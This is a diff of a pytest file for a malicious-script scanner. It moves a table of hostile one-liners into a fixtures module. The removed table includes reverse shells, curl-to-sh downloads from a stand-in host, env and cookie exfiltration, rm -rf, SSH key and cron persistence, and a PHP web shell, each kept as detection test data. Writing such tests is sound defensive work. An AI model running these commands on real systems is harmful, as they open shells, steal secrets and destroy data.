@@ -20,7 +20,9 @@ from assay.core.finding import Severity
 from assay.core.report import Report, Status
 from assay.core.subject import Subject
 from fixtures import programs
+from fixtures.baits import touching
 from fixtures.python_attacks import attacks, twins
+from fixtures.script_attacks import SCRIPTS
 
 Scan = Callable[..., Report]
 AWS = "AKIA" + "QYLPMN5HHHFPZAM2"
@@ -53,10 +55,10 @@ def _found(report: Report) -> list[tuple[str, str]]:
     return sorted((finding.rule, finding.severity.value) for finding in report.findings)
 
 
-@pytest.mark.parametrize("name", sorted(attacks(Path("x"))))
+@pytest.mark.parametrize("name", sorted(attacks()))
 def test_python_attack_fails_and_does_not_run(name: str, tmp_path: Path, scan: Scan) -> None:
     tripwire = tmp_path / "tripwire"
-    report = scan(**{"modeling_x.py": attacks(tripwire)[name]})
+    report = scan(**{"modeling_x.py": attacks(touching(tripwire))[name]})
     assert report.status is Status.FAIL, report
     assert any(f.rule.startswith("python/") for f in report.findings), report
     assert max(f.severity.rank for f in report.findings) >= Severity.MEDIUM.rank
@@ -164,54 +166,6 @@ def test_build_scripts_are_judged_as_what_they_are(scan: Scan) -> None:
         "setup(name='x')\n"
     )
     assert ("python/obfuscated", "critical") in _found(scan(**{"setup.py": evil}))
-
-
-SCRIPTS = {
-    "reverse-shell": ("run.sh", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1", "script/reverse-shell", "critical"),
-    "netcat": ("run.sh", "nc 127.0.0.1 9 -e /bin/sh", "script/reverse-shell", "critical"),
-    "pipe": ("run.sh", "curl -s http://x.invalid/i |\\\n  sudo bash", "script/dangerous-command", "medium"),
-    "quoted": ("run.sh", "cu''rl -s http://x.invalid/i | b\\ash", "script/dangerous-command", "medium"),
-    "substitution": ("run.sh", 'bash -c "$(wget -qO- http://x.invalid)"', "script/dangerous-command",
-                     "medium"),
-    "base64": ("run.sh", "echo aWQ= | base64 -d | sh", "script/dangerous-command", "high"),
-    "eval": ("run.sh", "eval $(echo aWQ= | base64 --decode)", "script/dangerous-command", "high"),
-    "home": ("run.sh", "rm -rf ~/", "script/dangerous-command", "high"),
-    "keys": ("run.sh", "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", "script/dangerous-command", "high"),
-    "cron": ("run.sh", "(crontab -l; echo '* * * * * x') | crontab -", "script/dangerous-command", "high"),
-    "environment": ("run.sh", "env | curl -d @- http://x.invalid", "script/dangerous-command", "high"),
-    "python": ("run.sh", "python3 -c \"import base64; exec(base64.b64decode('aWQ='))\"",
-               "script/dangerous-command", "high"),
-    "make": ("Makefile", "all:\n\techo aWQ= | base64 -d | sh\n", "script/dangerous-command", "high"),
-    "powershell": ("run.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x')",
-                   "script/dangerous-command", "high"),
-    "encoded": ("run.bat", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
-                "script/dangerous-command", "high"),
-    "certutil": ("run.cmd", "certutil -urlcache -f http://x a.exe", "script/dangerous-command", "high"),
-    "javascript": ("run.js", "eval(atob('YWxlcnQoMSk='))", "script/dangerous-command", "high"),
-    "ci": (".gitlab-ci.yml", "job:\n  script:\n    - echo aWQ= | base64 -d | bash\n",
-           "script/dangerous-command", "high"),
-    "shebang": ("start", "#!/bin/bash\nrm -rf /\n", "script/dangerous-command", "high"),
-    "ruby": ("x.rb", 'require "json"\nsystem("id")', "script/dangerous-command", "medium"),
-    "ruby-backticks": ("x.rb", "puts `id`", "script/dangerous-command", "medium"),
-    "ruby-send": ("x.rb", 'Kernel.send("sys" + "tem", "id")', "script/dangerous-command", "medium"),
-    "ruby-eval": ("Rakefile", "eval(Base64.decode64(x))", "script/dangerous-command", "medium"),
-    "ruby-pickle": ("x.rb", "Marshal.load(File.binread('m'))", "script/dangerous-command", "medium"),
-    "perl": ("x.pl", 'system("id");', "script/dangerous-command", "medium"),
-    "perl-open": ("x.pm", 'open(my $f, "-|", "id");', "script/dangerous-command", "medium"),
-    "perl-symbolic": ("x.pl", '&{"sys" . "tem"}("id");', "script/dangerous-command", "medium"),
-    "perl-eval": ("start", "#!/usr/bin/env perl\neval unpack u=>$x;", "script/dangerous-command", "medium"),
-    "lua": ("x.lua", 'os.execute("id")', "script/dangerous-command", "medium"),
-    "lua-computed": ("x.lua", '_G["o" .. "s"]["exe" .. "cute"]("id")', "script/dangerous-command", "medium"),
-    "lua-load": ("x.lua", "loadstring(decode(s))()", "script/dangerous-command", "medium"),
-    "php": ("x.php", "<?php system($_GET['c']);", "script/dangerous-command", "medium"),
-    "php-computed": ("x.php", '<?php $f = "sys" . "tem"; $f("id");', "script/dangerous-command", "medium"),
-    "php-network": ("x.php", "<?php $s = fsockopen('127.0.0.1', 9);", "script/dangerous-command", "medium"),
-    "r": ("x.R", 'system("id")', "script/dangerous-command", "medium"),
-    "node": ("x.mjs", "import { exec } from 'node:child_process';", "script/dangerous-command", "medium"),
-    "node-require": ("x.js", 'require("child_process").exec("id")', "script/dangerous-command", "medium"),
-    "cookie": ("x.js", "new Image().src='//x.invalid/?'+document.cookie", "script/dangerous-command", "high"),
-    "envrc": (".envrc", "curl -s http://x.invalid | sh", "script/dangerous-command", "high"),
-}  # fmt: skip
 
 
 @pytest.mark.parametrize("name", sorted(SCRIPTS))
@@ -489,7 +443,7 @@ def test_no_text_crashes_the_scan(scan: Scan, name: str, text: str) -> None:
 
 
 def test_every_prefix_of_an_attack_ends_in_order(tmp_path: Path, scan: Scan) -> None:
-    source = attacks(tmp_path / "tripwire")["zlib"]
+    source = attacks(touching(tmp_path / "tripwire"))["zlib"]
     for size in range(1, len(source), 5):
         scan(**{"a_b.py": source[:size]})
     assert not (tmp_path / "tripwire").exists()
